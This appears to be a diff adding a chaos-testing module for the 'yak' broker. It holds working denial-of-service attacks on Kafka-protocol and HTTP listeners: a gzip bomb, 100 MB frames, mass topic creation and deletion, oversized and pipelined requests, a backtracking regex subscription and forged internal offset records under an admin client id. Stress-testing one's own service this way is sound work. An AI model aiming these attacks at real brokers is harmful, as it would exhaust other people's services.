@@ -1,0 +1,381 @@
+"""The attacks of `yak chaos abuse`: what one client can send to take a broker's time or memory from the others.
+
+An attack is a loop that ends at a deadline. Each runs in a process of its own (`yak chaos attack`), with its connections in
+threads. A refusal is what an attack expects: a closed connection is opened again, at most 50 times a second.
+"""
+
+import contextlib
+import gzip
+import http.client
+import json
+import socket
+import struct
+import threading
+import time
+from collections.abc import Callable, Mapping
+from dataclasses import dataclass
+from typing import Any, Final
+
+from yak.client.reach import split_address
+from yak.errors import UsageError
+from yak.limits import REQUEST_ELEMENTS_MAX
+from yak.protocol.codec import encode_request
+from yak.protocol.record_batch import HEADER_BYTES, compute_crc
+from yak.protocol.record_writer import build_batch
+
+_TIMEOUT_SECONDS: Final = 5.0
+_AGAIN_SECONDS: Final = 0.02
+_LENGTH: Final = struct.Struct(">i")
+_CLIENT_ID: Final = "yak-abuse"
+
+PRODUCE, FETCH, METADATA, OFFSET_FETCH = 0, 1, 3, 9
+CREATE_TOPICS, DELETE_TOPICS, CONSUMER_GROUP_HEARTBEAT = 19, 20, 68
+
+
+@dataclass(frozen=True, slots=True)
+class Target:
+    """The broker under attack: `host:port` of its Kafka and of its HTTP listener (empty: none), and the topics to write to.
+
+    `packed_topic` has a `compression.type` of its own, so that the broker unpacks what it is sent.
+    """
+
+    bootstrap: str
+    http: str
+    topic: str
+    packed_topic: str
+
+
+class Link:
+    """One connection of an attacker. All methods raise OSError when the broker closes it."""
+
+    def __init__(self, target: Target) -> None:
+        self._sock = socket.create_connection(split_address(target.bootstrap), timeout=_TIMEOUT_SECONDS)
+
+    def close(self) -> None:
+        """End it."""
+        self._sock.close()
+
+    def send(self, data: bytes) -> None:
+        """Send bytes as they are."""
+        self._sock.sendall(data)
+
+    def receive(self, answers: int = 1) -> None:
+        """Read so many answers and forget them."""
+        for _ in range(answers):
+            (left,) = _LENGTH.unpack(self._take(_LENGTH.size))
+            while left:
+                left -= len(self._take(min(left, 1 << 16)))
+
+    def _take(self, count: int) -> bytes:
+        taken = bytearray()
+        while len(taken) < count:
+            piece = self._sock.recv(count - len(taken))
+            if not piece:
+                raise ConnectionResetError("closed")
+            taken += piece
+        return bytes(taken)
+
+
+Round = Callable[[Link], None]
+"""What an attacker does again and again on one connection."""
+
+
+@dataclass(frozen=True, slots=True)
+class Attack:
+    """One row of the table. `prepare` makes the bytes once, before the loops begin; each loop then has its own connection."""
+
+    name: str
+    words: str
+    connections: int
+    prepare: Callable[[Target], Round]
+    needs_http: bool = False
+
+
+def frame(api_key: int, version: int, fields: Mapping[str, object], client_id: str = _CLIENT_ID) -> bytes:
+    """A request with its length prefix."""
+    request = encode_request(api_key, version, 1, client_id, fields)
+    return _LENGTH.pack(len(request)) + request
+
+
+def run_attack(attack: Attack, target: Target, seconds: float) -> int:
+    """Run all connections of an attack until the time is over; how many rounds were completed or refused."""
+    act = attack.prepare(target)
+    deadline = time.monotonic() + seconds
+    rounds = [0] * attack.connections
+
+    def loop(number: int) -> None:
+        while time.monotonic() < deadline:
+            with contextlib.suppress(OSError, http.client.HTTPException), contextlib.closing(Link(target)) as link:
+                while time.monotonic() < deadline:
+                    rounds[number] += 1
+                    act(link)
+            time.sleep(_AGAIN_SECONDS)
+
+    threads = [threading.Thread(target=loop, args=(number,), daemon=True) for number in range(attack.connections)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join(max(0.0, deadline + 2 * _TIMEOUT_SECONDS - time.monotonic()))
+    return sum(rounds)
+
+
+# ------------------------------------------------------------------------------------------------------ the attacks
+
+
+def _produce(topic: str, batch: bytes, client_id: str = _CLIENT_ID) -> bytes:
+    data = {"name": topic, "partition_data": [{"index": 0, "records": batch}]}
+    return frame(PRODUCE, 9, {"transactional_id": None, "acks": 1, "timeout": 1000, "topic_data": [data]}, client_id)
+
+
+def _bomb(target: Target) -> Round:
+    """A gzip batch of 122 KB that holds 120 MiB of zeros: the broker must unpack it to look at its records."""
+    packed = gzip.compress(bytes(120 << 20), 9)
+    plain = build_batch([(None, b"x")], int(time.time() * 1000))
+    whole = bytearray(plain[:HEADER_BYTES]) + packed
+    struct.pack_into(">i", whole, 8, len(whole) - 12)
+    struct.pack_into(">h", whole, 21, 1)
+    struct.pack_into(">I", whole, 17, compute_crc(whole))
+    request = _produce(target.packed_topic, bytes(whole))
+
+    def act(link: Link) -> None:
+        link.send(request)
+        link.receive()
+
+    return act
+
+
+def _fetch_session(partitions: int) -> bytes:
+    rows = [
+        {"partition": number, "current_leader_epoch": -1, "fetch_offset": 0, "log_start_offset": -1,
+         "last_fetched_epoch": -1, "partition_max_bytes": 1}
+        for number in range(partitions)
+    ]  # fmt: skip
+    fields = {
+        "replica_id": -1, "max_wait": 0, "min_bytes": 0, "max_bytes": 1, "isolation_level": 0, "session_id": 0,
+        "session_epoch": 0, "topics": [{"topic": "no-such-topic", "partitions": rows}],
+        "forgotten_topics_data": [], "rack_id": "",
+    }  # fmt: skip
+    return frame(FETCH, 12, fields)
+
+
+def _create_topics(_target: Target) -> Round:
+    numbers = iter(range(1 << 30))
+
+    def act(link: Link) -> None:
+        batch = next(numbers)
+        topics = [
+            {"name": f"abuse-{batch}-{number}", "num_partitions": 10_000, "replication_factor": 1, "assignments": [],
+             "configs": []}
+            for number in range(100)
+        ]  # fmt: skip
+        link.send(frame(CREATE_TOPICS, 5, {"topics": topics, "timeout": 1000, "validate_only": True}))
+        link.receive()
+
+    return act
+
+
+def _metadata(names: list[str] | None) -> bytes:
+    topics = None if names is None else [{"name": name} for name in names]
+    fields = {
+        "topics": topics,
+        "allow_auto_topic_creation": False,
+        "include_cluster_authorized_operations": False,
+        "include_topic_authorized_operations": False,
+    }
+    return frame(METADATA, 8, fields)
+
+
+def _elements(count: int) -> Round:
+    """Requests of so many elements, of APIs that answer each element."""
+    names = [f"t{number}" for number in range(count)]
+    offsets = {"group_id": "abuse", "topics": [{"name": "no-such-topic", "partition_indexes": list(range(count))}]}
+    requests = (
+        _metadata(names),
+        frame(OFFSET_FETCH, 5, offsets),
+        frame(DELETE_TOPICS, 4, {"topic_names": [f"no-such-{name}" for name in names], "timeout": 1000}),
+    )
+    return _asking_in_turn(requests)
+
+
+def _asking_in_turn(requests: tuple[bytes, ...]) -> Round:
+    """One request a connection, since each may be refused by closing it."""
+    turn = iter(range(1 << 30))
+
+    def act(link: Link) -> None:
+        link.send(requests[next(turn) % len(requests)])
+        link.receive()
+
+    return act
+
+
+def _pipelined(target: Target) -> Round:
+    count = 3000
+    requests = _metadata([target.topic]) * count
+
+    def act(link: Link) -> None:
+        reader = threading.Thread(target=_read_quietly, args=(link, count), daemon=True)
+        reader.start()
+        link.send(requests)
+        reader.join()
+
+    return act
+
+
+def _read_quietly(link: Link, count: int) -> None:
+    with contextlib.suppress(OSError):
+        link.receive(count)
+
+
+def _large_frames(target: Target) -> Round:
+    """Frames of 100 MB: a produce whose batch no topic takes."""
+    piece = bytes(1 << 20)
+    head = _produce(target.topic, b"")[_LENGTH.size :]
+    length = 100_000_000
+
+    def act(link: Link) -> None:
+        link.send(_LENGTH.pack(length) + head)
+        left = length - len(head)
+        while left:
+            link.send(piece[: min(left, len(piece))])
+            left -= min(left, len(piece))
+        link.receive()
+
+    return act
+
+
+def _json_keys(target: Target) -> Round:
+    """4 MB of JSON: one object of 300,000 keys."""
+    row: dict[str, Any] = {"topic": target.topic, "payload": {f"k{number}": 1 for number in range(300_000)}}
+    body = json.dumps(row, separators=(",", ":")).encode()
+    host, port = split_address(target.http)
+
+    def act(_link: Link) -> None:
+        with contextlib.closing(http.client.HTTPConnection(host, port, timeout=_TIMEOUT_SECONDS)) as connection:
+            connection.request("POST", "/produce", body, {"Content-Type": "application/json"})
+            connection.getresponse().read()
+
+    return act
+
+
+def _regex(target: Target) -> Round:
+    """A subscription whose pattern backtracks without end on names that nearly fit."""
+    names = [f"{'a' * 120}{number:02d}" for number in range(20)]
+    topics = [
+        {"name": name, "num_partitions": 1, "replication_factor": 1, "assignments": [], "configs": []} for name in names
+    ]
+    with contextlib.suppress(OSError), contextlib.closing(Link(target)) as link:
+        link.send(frame(CREATE_TOPICS, 5, {"topics": topics, "timeout": 5000, "validate_only": False}))
+        link.receive()
+    numbers = iter(range(1 << 30))
+
+    def act(link: Link) -> None:
+        number = next(numbers)
+        fields = {
+            "group_id": f"abuse-{number}", "member_id": f"member-{number}", "member_epoch": 0, "instance_id": None,
+            "rack_id": None, "rebalance_timeout": 10_000, "subscribed_topic_names": None,
+            "subscribed_topic_regex": "a*a*a*a*!", "server_assignor": None, "topic_partitions": [],
+        }  # fmt: skip
+        link.send(frame(CONSUMER_GROUP_HEARTBEAT, 1, fields))
+        link.receive()
+
+    return act
+
+
+def _deletions(_target: Target) -> Round:
+    """A thousand topics made and deleted by one request each."""
+    numbers = iter(range(1 << 30))
+
+    def act(link: Link) -> None:
+        names = [f"gone-{next(numbers)}" for _ in range(1000)]
+        topics = [
+            {"name": name, "num_partitions": 1, "replication_factor": 1, "assignments": [], "configs": []}
+            for name in names
+        ]
+        link.send(frame(CREATE_TOPICS, 5, {"topics": topics, "timeout": 5000, "validate_only": False}))
+        link.receive()
+        link.send(frame(DELETE_TOPICS, 4, {"topic_names": names, "timeout": 5000}))
+        link.receive()
+
+    return act
+
+
+def _unread(_target: Target) -> Round:
+    """Requests for all metadata whose answers are never read."""
+    requests = _metadata(None) * 2000
+
+    def act(link: Link) -> None:
+        with contextlib.suppress(TimeoutError):
+            link.send(requests)
+        time.sleep(1.0)
+        raise ConnectionResetError("the next connection")
+
+    return act
+
+
+def _internal_records(target: Target) -> Round:
+    """Group records as `__admin_client` writes them, with epochs and partitions that no coordinator writes."""
+    group = b"abuse"
+    key = struct.pack(">hh", 1, len(group)) + group + struct.pack(">h", 1) + b"t" + struct.pack(">i", -1)
+    value = struct.pack(">hqi", 3, 1, 2**31 - 1) + struct.pack(">h", 0) + struct.pack(">q", 1)
+    batch = build_batch([(key, value)], int(time.time() * 1000))
+    request = _produce("__consumer_offsets", batch, "__admin_client")
+    joined = _metadata([target.topic])
+
+    def act(link: Link) -> None:
+        link.send(request)
+        link.receive()
+        link.send(joined)
+        link.receive()
+
+    return act
+
+
+def _once(request: bytes) -> Round:
+    """One request for each connection: a session is kept while its connection is open."""
+
+    def act(link: Link) -> None:
+        link.send(request)
+        link.receive()
+        raise ConnectionResetError("the next session")
+
+    return act
+
+
+ATTACKS: Final[tuple[Attack, ...]] = (
+    Attack("bombs", "122 KB of gzip that unpack to 120 MiB", 2, _bomb),
+    Attack(
+        "fetch-sessions",
+        "new fetch sessions of 100,000 unknown partitions",
+        2,
+        lambda _: _once(_fetch_session(100_000)),
+    ),
+    Attack("create-topics", "CreateTopics with 100 names of 10,000 partitions", 1, _create_topics),
+    Attack("delete-topics", "1,000 topics made and deleted at once", 1, _deletions),
+    Attack("elements", "requests of 240,000 elements", 2, lambda _: _elements(240_000)),
+    Attack("elements-taken", "the largest requests that are taken", 2, lambda _: _elements(REQUEST_ELEMENTS_MAX - 1)),
+    Attack("pipelined", "200 connections with 3,000 Metadata requests each", 200, _pipelined),
+    Attack("large-frames", "50 connections with frames of 100 MB", 50, _large_frames),
+    Attack("unread", "20 connections that ask for all metadata and read no answer", 20, _unread),
+    Attack("json-keys", "4 MB of JSON with 300,000 keys to POST /produce", 2, _json_keys, needs_http=True),
+    Attack("regex", "subscriptions to a*a*a*a*! beside 20 long names", 2, _regex),
+    Attack("group-records", "records of impossible commits to __consumer_offsets", 2, _internal_records),
+)
+"""In the order of the report."""
+
+
+def chosen(names: str, *, has_http: bool) -> tuple[Attack, ...]:
+    """The attacks of a list of names; `all` for every one that is possible. Raises UsageError (`unknown-attack`)."""
+    if names == "all":
+        return tuple(attack for attack in ATTACKS if has_http or not attack.needs_http)
+    known = {attack.name: attack for attack in ATTACKS}
+    found = []
+    for name in names.split(","):
+        if name not in known:
+            raise UsageError(
+                "unknown-attack",
+                f"there is no attack {name!r}",
+                why=f"known are {', '.join(known)}",
+                try_=("yak chaos abuse --attacks all",),
+            )
+        found.append(known[name])
+    return tuple(found)
